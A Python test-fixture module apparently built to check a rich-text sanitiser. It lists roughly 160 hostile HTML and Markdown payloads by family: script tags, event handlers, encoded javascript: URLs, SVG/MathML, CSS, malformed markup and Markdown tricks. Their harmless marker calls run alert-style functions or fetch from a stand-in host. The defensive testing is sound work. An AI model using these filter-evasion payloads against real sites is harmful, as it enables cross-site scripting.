"""Hostile HTML and Markdown for every rich-text field: nothing in here may execute or fetch anything.

Each entry is `(id, payload)`. A payload tries either to run script (calling `alert`,
`confirm`, `prompt` or `print`) or to make the browser fetch something: from another
origin (`http://attacker.invalid/...`, a reserved name that never resolves) or from our
own (`/hostile-probe/...`, a path the application does not serve). The families follow
the well-known filter-evasion catalogues (script tags, event handlers, URL schemes and
their encodings, SVG and MathML, CSS, embedding, broken markup, parser differentials),
plus tricks specific to Markdown. Written for Certify; not a copy of any published list.

`tests/security/test_hostile_html.py` checks the sanitiser's output without a browser;
`tests/e2e/test_hostile_html_e2e.py` renders the same payloads in Chromium.
"""

from __future__ import annotations

EVIL = "http://attacker.invalid"
PROBE = "/hostile-probe"

_SCRIPT: list[tuple[str, str]] = [
    ("script-plain", "<script>alert('script-plain')</script>"),
    ("script-mixed-case", "<ScRiPt>confirm('script-mixed-case')</sCrIpT>"),
    ("script-remote-src", f'<script src="{EVIL}/script.js"></script>'),
    ("script-same-origin-src", f"<script src={PROBE}/script.js></script>"),
    ("script-slash-separator", f"<script/src={EVIL}/slash.js></script>"),
    ("script-unclosed", "<script>prompt('script-unclosed')"),
    ("script-split-nested", "<scr<script>ipt>alert('script-split-nested')</scr</script>ipt>"),
    ("script-attribute-breakout", "\"'><script>alert('script-attribute-breakout')</script>"),
    ("script-module-import", f'<script type="module">import "{EVIL}/module.js";</script>'),
    ("script-double-open", "<<script>alert('script-double-open');//<</script>"),
    ("script-as-entities", "&lt;script&gt;alert('script-as-entities')&lt;/script&gt;"),
    ("script-as-numeric-entities", "&#60;script&#62;print()&#60;/script&#62;"),
    ("script-markdown-escaped", "\\<script>alert('script-markdown-escaped')\\</script>"),
    ("script-utf7", "+ADw-script+AD4-alert('script-utf7')+ADw-/script+AD4-"),
]

_HANDLERS: list[tuple[str, str]] = [
    ("img-onerror", "<img src=x onerror=\"alert('img-onerror')\">"),
    ("img-onerror-backticks", "<img src=x onerror=alert`img-onerror-backticks`>"),
    ("img-slashes-no-spaces", '<img/src="x"/onerror=confirm(1)>'),
    ("img-onerror-entity-encoded", "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>"),
    ("img-onerror-newline-before-equals", "<img src=x onerror\n=prompt(1)>"),
    ("body-onload", "<body onload=\"alert('body-onload')\">"),
    ("svg-onload", "<svg onload=\"alert('svg-onload')\">"),
    ("svg-onload-unclosed", "<svg/onload=prompt(1)//"),
    ("input-autofocus-onfocus", "<input autofocus onfocus=\"alert('input-autofocus-onfocus')\">"),
    ("select-autofocus-onfocus", "<select autofocus onfocus=confirm(1)></select>"),
    ("textarea-autofocus-onfocus", "<textarea autofocus onfocus=print()></textarea>"),
    ("details-ontoggle", "<details open ontoggle=\"alert('details-ontoggle')\"><summary>x</summary></details>"),
    ("div-onmouseover", "<div onmouseover=\"alert('div-onmouseover')\">hover over this text</div>"),
    ("anchor-onmouseover", '<a href="https://example.org/" onmouseover="confirm(\'anchor-onmouseover\')">link</a>'),
    ("p-onclick", "<p onclick=alert(1) onpointerover=alert(2)>point at this</p>"),
    ("marquee-onstart", "<marquee onstart=alert('marquee-onstart')>moving</marquee>"),
    ("video-source-onerror", "<video><source onerror=\"alert('video-source-onerror')\"></video>"),
    ("audio-onerror", "<audio src=x onerror=prompt(1)></audio>"),
    ("iframe-onload", "<iframe onload=\"alert('iframe-onload')\"></iframe>"),
    ("animation-start", '<style>@keyframes k{}</style><b style="animation-name:k" onanimationstart=alert(1)>b</b>'),
    ("handler-without-quotes-or-space", "<b/onmouseover=alert(1)//>bold</b>"),
]

_URLS: list[tuple[str, str]] = [
    ("md-link-javascript", "[click me](javascript:alert('md-link-javascript'))"),
    ("md-link-javascript-mixed-case", "[click me](JaVaScRiPt:confirm(1))"),
    ("md-link-decimal-entities", "[click me](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))"),
    ("md-link-hex-entities", "[click me](&#x6A;avascript&#x3A;prompt(1))"),
    ("md-link-tab-entity", "[click me](jav&#x09;ascript:alert(1))"),
    ("md-link-newline-entity", "[click me](jav&#x0A;ascript:alert(1))"),
    ("md-link-named-colon", "[click me](javascript&colon;alert(1))"),
    ("md-link-angle-brackets", "[click me](<javascript:alert(1)>)"),
    ("md-link-vbscript", "[click me](vbscript:msgbox(1))"),
    ("md-link-data-html", "[click me](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    ("md-link-title-breakout", '[click me](https://example.org/ "t\\" onmouseover=\\"alert(1)")'),
    ("md-link-nested", "[[inner](javascript:alert(1))](javascript:alert(2))"),
    ("md-reference-link", "[click me][evil]\n\n[evil]: javascript:alert('md-reference-link')"),
    ("md-reference-link-titled", '[click me][bad]\n\n[bad]: <javascript:print()> "title"'),
    ("md-autolink-javascript", "<javascript:alert('md-autolink-javascript')>"),
    ("md-autolink-data", "<data:text/html,<script>alert(1)</script>>"),
    ("md-image-remote", f"![remote picture]({EVIL}/md-image.png)"),
    ("md-image-same-origin", f"![probe picture]({PROBE}/md-image.png)"),
    ("md-image-javascript", "![picture](javascript:alert(1))"),
    ("md-image-title-handler", f'![picture]({EVIL}/titled.png "x\\" onerror=\\"alert(1)")'),
    ("md-image-reference", f"![picture][pic]\n\n[pic]: {EVIL}/reference.png"),
    ("md-image-protocol-relative", "![picture](//attacker.invalid/relative.png)"),
    ("a-javascript", "<a href=\"javascript:alert('a-javascript')\">link</a>"),
    ("a-entities-no-semicolons", '<a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1)">link</a>'),
    ("a-zero-padded-entities", '<a href="&#0000106&#0000097vascript:alert(1)">link</a>'),
    ("a-hex-no-semicolons", '<a href="&#x6A&#x61&#x76&#x61script:alert(1)">link</a>'),
    ("a-literal-tab", '<a href="jav\tascript:alert(1)">link</a>'),
    ("a-leading-control", '<a href=" &#14; javascript:confirm(1)">link</a>'),
    ("a-newline-entity", '<a href="java&NewLine;script&colon;prompt(1)">link</a>'),
    ("a-vbscript", '<a href="vbscript:msgbox(1)">link</a>'),
    ("a-data-svg", '<a href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">link</a>'),
    ("a-ping", f'<a href="https://example.org/" ping="{EVIL}/ping">link</a>'),
    ("img-remote", f'<img src="{EVIL}/img.png" alt="x">'),
    ("img-same-origin", f'<img src="{PROBE}/img.png" alt="x">'),
    ("img-srcset", f'<img srcset="{EVIL}/srcset.png 1x" alt="x">'),
    ("img-lowsrc-dynsrc", f'<img lowsrc="{EVIL}/low.png" dynsrc="{EVIL}/dyn.avi">'),
    ("picture-source", f'<picture><source srcset="{EVIL}/picture.png"><img alt="x"></picture>'),
    ("input-image", f'<input type="image" src="{EVIL}/input.png" alt="x">'),
    ("table-background", f'<table background="{EVIL}/t.png"><tr><td background="{PROBE}/td.png">x</td></tr></table>'),
    ("video-poster", f'<video poster="{EVIL}/poster.png"></video>'),
]

_EMBEDDING: list[tuple[str, str]] = [
    ("iframe-javascript", "<iframe src=\"javascript:alert('iframe-javascript')\"></iframe>"),
    ("iframe-srcdoc", "<iframe srcdoc=\"&lt;script&gt;alert('iframe-srcdoc')&lt;/script&gt;\"></iframe>"),
    ("iframe-remote", f'<iframe src="{EVIL}/frame.html"></iframe>'),
    ("iframe-data", '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>'),
    ("object-data", '<object data="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;"></object>'),
    ("object-remote", f'<object data="{EVIL}/object.swf" type="application/x-shockwave-flash"></object>'),
    ("embed-javascript", '<embed src="javascript:alert(1)">'),
    ("embed-svg", f'<embed src="{EVIL}/embed.svg" type="image/svg+xml">'),
    ("frameset", f'<frameset><frame src="{EVIL}/frame.html"></frameset>'),
    ("base-href", f'<base href="{EVIL}/">'),
    ("meta-refresh-remote", f'<meta http-equiv="refresh" content="0;url={EVIL}/meta-refresh">'),
    ("meta-refresh-javascript", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    ("meta-refresh-same-origin", f'<meta http-equiv="refresh" content="0; url={PROBE}/meta-refresh">'),
    ("link-stylesheet", f'<link rel="stylesheet" href="{EVIL}/sheet.css">'),
    ("link-prefetch", f'<link rel="prefetch" href="{PROBE}/prefetch">'),
    ("form-action-javascript", '<form action="javascript:alert(1)"><button>Send</button></form>'),
    ("button-formaction", f'<form><button formaction="{EVIL}/formaction">Send</button></form>'),
    ("input-formaction-autofocus", "<input type=submit formaction=javascript:alert(1) autofocus>"),
]

_CSS: list[tuple[str, str]] = [
    ("style-import", f"<style>@import url({EVIL}/import.css);</style>"),
    ("style-font-face", f"<style>@font-face{{font-family:h;src:url({EVIL}/f.woff)}}p{{font-family:h}}</style>"),
    ("style-attribute-background", f'<p style="background:url({EVIL}/background.png)">styled</p>'),
    ("style-attribute-same-origin", f"<p style='background-image:url(\"{PROBE}/bg.png\")'>styled</p>"),
    ("style-expression", '<p style="width:expression(alert(1))">styled</p>'),
    ("style-escaped-url", f'<p style="background:\\75 \\72 \\6C ({EVIL}/escaped.png)">styled</p>'),
    ("style-binding", f'<p style="-moz-binding:url({EVIL}/xbl.xml#x);behavior:url({EVIL}/x.htc)">styled</p>'),
    ("style-closing-then-img", "<style></style><img src=x onerror=alert('style-closing-then-img')>"),
    ("style-comment-split", '<p style="background:ur/**/l(//attacker.invalid/split.png)">styled</p>'),
]

_SVG_MATH: list[tuple[str, str]] = [
    ("svg-script", "<svg><script>alert('svg-script')</script></svg>"),
    ("svg-script-href", f'<svg><script href="{EVIL}/svg.js"/></svg>'),
    ("svg-animate-href", '<svg><a><animate attributeName=href values="javascript:alert(1)"/><text>a</text></a></svg>'),
    ("svg-set-onbegin", "<svg><set attributeName=x to=y onbegin=alert('svg-set-onbegin')></set></svg>"),
    ("svg-image-remote", f'<svg><image href="{EVIL}/svg-image.png"/></svg>'),
    ("svg-xlink-anchor", '<svg><a xlink:href="javascript:alert(1)"><text y="9">a</text></a></svg>'),
    ("svg-foreign-object", "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>"),
    ("math-xlink", '<math><mi xlink:href="javascript:alert(1)">x</mi></math>'),
    ("math-href", '<math href="javascript:alert(1)"><mtext>x</mtext></math>'),
    ("math-mglyph-style", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    # MathML is rendered (formulas from other platforms): these try its allowed elements as a way in.
    ("math-script-inside", "<math><mi>x</mi><script>alert('math-script-inside')</script></math>"),
    ("math-handlers", "<math onclick=alert(1)><mi onmouseover=\"alert('math-handlers')\">x</mi></math>"),
    (
        "math-maction-statusline",
        '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)"><mi>x</mi></maction></math>',
    ),
    ("math-definition-url", '<math><mi definitionURL="javascript:alert(1)" href="javascript:alert(1)">x</mi></math>'),
    (
        "math-annotation-xml-html",
        '<math><semantics><mi>x</mi><annotation-xml encoding="text/html"><img src=x onerror=alert(1)>'
        "</annotation-xml></semantics></math>",
    ),
    (
        "math-annotation-xml-svg",
        '<math><annotation-xml encoding="SVG1.1"><svg onload=alert(1)></svg></annotation-xml></math>',
    ),
    (
        "math-mtext-svg-foreign",
        "<math><mtext><svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg></mtext></math>",
    ),
    ("math-mtext-style-breakout", "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>"),
    ("math-altimg", f'<math altimg="{EVIL}/formula.png" style="background:url({EVIL}/bg.png)"><mi>x</mi></math>'),
    ("svg-style-attribute-trick", '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">'),
]

_MALFORMED: list[tuple[str, str]] = [
    ("comment-conditional", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->"),
    ("comment-bang-close", "<!-- --!><img src=x onerror=alert('comment-bang-close')> -->"),
    ("comment-abrupt-close", "<!--><img src=x onerror=alert('comment-abrupt-close')>-->"),
    ("comment-unclosed", "<!-- <img src=x onerror=alert(1)>"),
    ("cdata-outside-foreign", "<![CDATA[<]]><img src=x onerror=alert('cdata-outside-foreign')>"),
    ("cdata-in-svg", "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>"),
    ("processing-instruction", '<?xml version="1.0"?><img src=x onerror=alert(1)>'),
    ("unclosed-attribute", '<img src="x" onerror="alert(1)'),
    ("unclosed-tag", "<img src=x onerror=alert(1)//"),
    ("quote-confusion", '<img """><script>alert(\'quote-confusion\')</script>">'),
    ("backtick-attribute", "<img src=`x`onerror=alert(1)>"),
    ("title-breakout", "</title><script>alert('title-breakout')</script>"),
    ("textarea-breakout", "</textarea><script>alert('textarea-breakout')</script>"),
    ("noscript-title-mxss", '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'),
    ("xmp-mxss", '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>'),
    ("plaintext-then-script", "<plaintext><script>alert(1)</script>"),
    ("template-content", "<template><img src=x onerror=alert(1)></template>"),
    ("select-breakout", "<select><option><img src=x onerror=alert(1)></option></select>"),
    ("table-foster-parenting", "<table><img src=x onerror=alert('table-foster-parenting')><tr><td>x</td></tr></table>"),
    ("isindex", "<isindex type=image src=1 onerror=alert(1)>"),
    ("keygen-autofocus", "<keygen autofocus onfocus=alert(1)>"),
]

_MARKDOWN: list[tuple[str, str]] = [
    ("md-code-span-in-link", "[`code`](javascript:alert('md-code-span-in-link'))"),
    ("md-html-in-code-span", "`<img src=x onerror=alert(1)>`"),
    ("md-fenced-html", "```html\n<script>alert('md-fenced-html')</script>\n```"),
    ("md-fence-breakout", "```\n</code></pre><img src=x onerror=alert(1)>\n```"),
    (
        "md-table-html-cells",
        "| a | b |\n|:--|--:|\n| <img src=x onerror=alert(1)> | <script>alert('md-table-html-cells')</script> |",
    ),
    ("md-table-link-cell", "| link |\n|------|\n| [x](javascript:alert(1)) |"),
    ("md-html-block-markdown-attr", '<div markdown="1">[x](javascript:alert(1))</div>'),
    ("md-emphasis-in-attribute", '<a href="https://example.org/_x_" title="_" onmouseover=alert(1) _">link</a>'),
    ("md-heading-html", "### Heading <svg onload=\"alert('md-heading-html')\">"),
    ("md-list-html", "1. one\n2. <img src=x onerror=alert(1)>\n3. [x](vbscript:msgbox(1))"),
    ("md-blockquote-html", "> <iframe src=\"javascript:alert('md-blockquote-html')\"></iframe>"),
    ("md-percent-encoded-scheme", "[click me](javascript%3Aalert(1))"),
    ("md-link-in-alt", f"![x<img src=x onerror=alert(1)>]({EVIL}/alt.png)"),
]

CORPUS: list[tuple[str, str]] = [
    *_SCRIPT,
    *_HANDLERS,
    *_URLS,
    *_EMBEDDING,
    *_CSS,
    *_SVG_MATH,
    *_MALFORMED,
    *_MARKDOWN,
]

assert len({vector_id for vector_id, _ in CORPUS}) == len(CORPUS), "vector ids must be unique"


def corpus_document() -> str:
    """Every vector in one Markdown document, each introduced by its id.

    Vectors that leave something open (an unclosed script, comment or fence) may swallow the
    ones after them here; each is also rendered on its own by the tests.
    """
    return "\n\n".join(f"Vector **{vector_id}**:\n\n{payload}" for vector_id, payload in CORPUS) + "\n"


def chunks(size: int, least: int = 3) -> list[list[tuple[str, str]]]:
    """The corpus in consecutive groups of at most `size` vectors (one group per test item); a short last
    group borrows from the start so that it has at least `least` (an item type's fewest options)."""
    groups = [CORPUS[start : start + size] for start in range(0, len(CORPUS), size)]
    if groups and len(groups[-1]) < least:
        groups[-1] = groups[-1] + CORPUS[: least - len(groups[-1])]
    return groups
